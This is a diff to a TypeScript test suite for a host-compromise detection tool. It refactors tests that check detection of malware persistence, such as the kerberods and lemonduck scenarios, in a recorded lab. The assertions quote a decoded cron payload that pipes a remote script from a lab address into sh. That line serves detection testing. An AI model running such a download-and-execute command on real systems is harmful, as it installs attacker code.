@@ -20,7 +20,8 @@ import { RECORDED_LAB_RULES } from './fixtures.js';
 // clean host. Every new rule and reason is checked on these real facts.
 
 const dir = path.resolve(import.meta.dirname, '../../fixtures/probe/detect');
-const truth = JSON.parse(readFileSync(path.join(dir, 'ground-truth.json'), 'utf8')) as Pick<GroundTruth, 'hosts'>;
+const truth = JSON.parse(readFileSync(path.join(dir, 'ground-truth.json'), 'utf8')) as Pick<GroundTruth, 'hosts' | 'lab'>;
+const POOL = truth.lab.poolAddress;
 const CONTROLLER = 'SHA256:VDcmPJT2gGxlPb3dnu23Usp6Qj8bgtNyf7da/ynnEwc';
 const load = (scenario: string, host = scenario): HostFacts => parseProbeOutput(gunzipSync(readFileSync(path.join(dir, `${scenario}.out.gz`))), { host });
 const facts = new Map(truth.hosts.map((h) => [h.scenario, load(h.scenario)]));
@@ -153,8 +154,8 @@ describe('persistence graph on the recorded lab', () => {
 describe('decoded payloads on the recorded lab', () => {
   it('kerberods: the base64 cron payload is decoded; its URL and address become IOCs and evidence', () => {
     const f = of('kerberods').find((x) => x.rule === 'cron.download-pipe-shell')!;
-    expect(f.evidence.some((e) => e.text.startsWith('decoded (base64): curl -fsSL http://198.18.25.254:8080/kr.sh | sh'))).toBe(true);
-    expect(f.iocs).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'url', value: 'http://198.18.25.254:8080/kr.sh' }), expect.objectContaining({ type: 'ip', value: '198.18.25.254' })]));
+    expect(f.evidence.some((e) => e.text.startsWith(`decoded (base64): curl -fsSL http://${POOL}:8080/kr.sh | sh`))).toBe(true);
+    expect(f.iocs).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'url', value: `http://${POOL}:8080/kr.sh` }), expect.objectContaining({ type: 'ip', value: POOL })]));
   });
 
   it('lemonduck: base64 of gzip in a profile.d script is unpacked; the download domain is an IOC', () => {
